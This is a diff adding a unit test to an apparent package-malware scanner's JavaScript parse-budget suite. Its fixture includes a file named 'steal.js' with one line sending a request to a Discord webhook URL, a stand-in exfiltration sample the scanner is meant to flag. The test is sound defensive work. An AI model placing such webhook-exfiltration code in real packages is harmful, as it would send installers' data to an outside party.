@@ -72,4 +72,21 @@ describe('javascript parse budget', () => {
     ]);
     expect(facts.textOnly).toEqual(['package/vendor/b.js']);
   });
+
+  it('stops parsing files without indicators once the time budget is spent', () => {
+    const filler =
+      "const https = require('https');\n" + 'https.get("https://example.com/a");\n'.repeat(50);
+    const ctx = context({
+      'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0', main: 'main.js' }),
+      'package/main.js': filler,
+      'package/vendor/a.js': filler,
+      'package/lib/steal.js': "require('https').request('https://discord.com/api/webhooks/1/x');\n",
+    });
+    const facts = jsPackageFacts(ctx, 10 * 1024 * 1024, 0);
+    expect(facts.files.map((f) => f.path).sort()).toEqual([
+      'package/lib/steal.js',
+      'package/main.js',
+    ]);
+    expect(facts.textOnly).toEqual(['package/vendor/a.js']);
+  });
 });
